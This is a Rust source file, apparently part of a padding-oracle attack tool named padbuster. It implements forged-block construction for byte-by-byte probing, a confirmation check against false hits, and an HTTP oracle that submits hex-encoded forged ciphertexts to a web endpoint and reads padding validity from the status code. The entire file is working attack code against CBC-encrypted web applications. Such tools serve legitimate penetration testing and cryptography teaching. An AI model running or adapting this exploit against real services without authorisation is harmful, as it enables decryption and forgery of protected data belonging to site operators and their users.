use std::time::Duration;

use log::debug;
use reqwest::blocking::Client;
use reqwest::StatusCode;

use crate::{Block, PadbusterError};

/// `Oracle` classifies a submitted ciphertext by its padding
///
/// `query` must return `Ok(true)` when the candidate decrypts to a valid
/// padding, `Ok(false)` otherwise. Any `Err` aborts the attack.
pub trait Oracle: Sync {
    fn query(&self, candidate: &[u8]) -> Result<bool, PadbusterError>;
}

impl<F> Oracle for F
where
    F: Fn(&[u8]) -> Result<bool, PadbusterError> + Sync,
{
    fn query(&self, candidate: &[u8]) -> Result<bool, PadbusterError> {
        self(candidate)
    }
}

/// `OracleQuery` is a forged predecessor followed by the target block
#[derive(Debug, Clone)]
pub struct OracleQuery<'a> {
    offset: usize,
    forged: Block,
    target: &'a Block,
}

impl<'a> OracleQuery<'a> {
    /// Forge the predecessor used to probe byte `offset` of `target`
    ///
    /// # Arguments
    ///
    /// * `target` - Ciphertext block under attack.
    /// * `offset` - Byte position being scanned.
    /// * `hypothesis` - Padding value every byte from `offset` on must decrypt to.
    /// * `intermediate` - Already solved intermediate bytes after `offset`.
    ///
    pub fn forge(target: &'a Block, offset: usize, hypothesis: u8, intermediate: &[u8]) -> Self {
        let suffix = Block::from_slice(intermediate).xor_byte(hypothesis);
        let forged = Block::from_slice(&Block::zeroed(offset + 1).concat(&suffix));
        OracleQuery {
            offset,
            forged,
            target,
        }
    }

    pub fn offset(&self) -> usize {
        self.offset
    }

    pub fn forged(&self) -> &Block {
        &self.forged
    }

    /// Bytes to submit with `candidate` at the scanned offset
    pub fn probe(&self, candidate: u8) -> Vec<u8> {
        let mut forged = self.forged.clone();
        forged[self.offset] = candidate;
        forged.concat(self.target)
    }

    /// Same probe with the byte before the scanned offset flipped
    ///
    /// A hit that survives this cannot come from a longer padding.
    pub fn confirmation(&self, candidate: u8) -> Option<Vec<u8>> {
        if self.offset == 0 {
            return None;
        }
        let mut forged = self.forged.clone();
        forged[self.offset] = candidate;
        forged[self.offset - 1] ^= 0xff;
        Some(forged.concat(self.target))
    }
}

/// `HttpOracle` asks a web endpoint through the status code it answers
///
/// A probe is `GET {url}/{path}?{query_key}={hex}`. The configured
/// `valid_status` (404 by default: padding accepted, integrity check
/// failed) means valid padding; every other status means invalid.
#[derive(Debug, Clone)]
pub struct HttpOracle {
    client: Client,
    endpoint: String,
    query_key: String,
    valid_status: StatusCode,
}

impl HttpOracle {
    pub fn builder(url: &str) -> HttpOracleBuilder {
        HttpOracleBuilder {
            url: url.trim_end_matches('/').to_string(),
            path: String::new(),
            query_key: "er".to_string(),
            valid_status: StatusCode::NOT_FOUND,
            timeout: None,
        }
    }

    fn url_for(&self, candidate: &[u8]) -> String {
        format!(
            "{}?{}={}",
            self.endpoint,
            self.query_key,
            hex::encode(candidate)
        )
    }
}

impl Oracle for HttpOracle {
    fn query(&self, candidate: &[u8]) -> Result<bool, PadbusterError> {
        let url = self.url_for(candidate);
        let response = self.client.get(&url).send()?;
        let status = response.status();
        debug!("[oracle] {} -> {}", url, status);
        Ok(status == self.valid_status)
    }
}

/// Configuration of an `HttpOracle`
#[derive(Debug, Clone)]
pub struct HttpOracleBuilder {
    url: String,
    path: String,
    query_key: String,
    valid_status: StatusCode,
    timeout: Option<Duration>,
}

impl HttpOracleBuilder {
    /// Path of the oracle endpoint, without query string.
    pub fn path(mut self, path: &str) -> Self {
        self.path = path.trim_matches('/').to_string();
        self
    }

    /// Query parameter carrying the hex encoded ciphertext.
    pub fn query_key(mut self, key: &str) -> Self {
        self.query_key = key.to_string();
        self
    }

    /// Status code meaning "padding valid".
    pub fn valid_status(mut self, status: u16) -> Result<Self, PadbusterError> {
        self.valid_status = StatusCode::from_u16(status).map_err(|e| {
            PadbusterError::ConfigurationError(format!("Invalid status {}: {}", status, e))
        })?;
        Ok(self)
    }

    /// Bound on each probe; exceeding it is a transport failure.
    pub fn timeout(mut self, timeout: Duration) -> Self {
        self.timeout = Some(timeout);
        self
    }

    pub fn build(self) -> Result<HttpOracle, PadbusterError> {
        if self.url.is_empty() {
            return Err(PadbusterError::ConfigurationError(
                "Oracle url must not be empty".to_string(),
            ));
        }
        let mut client = Client::builder();
        if let Some(timeout) = self.timeout {
            client = client.timeout(timeout);
        }
        let client = client.build().map_err(|e| {
            PadbusterError::ConfigurationError(format!("Unable to build http client: {}", e))
        })?;

        Ok(HttpOracle {
            client,
            endpoint: format!("{}/{}", self.url, self.path),
            query_key: self.query_key,
            valid_status: self.valid_status,
        })
    }
}
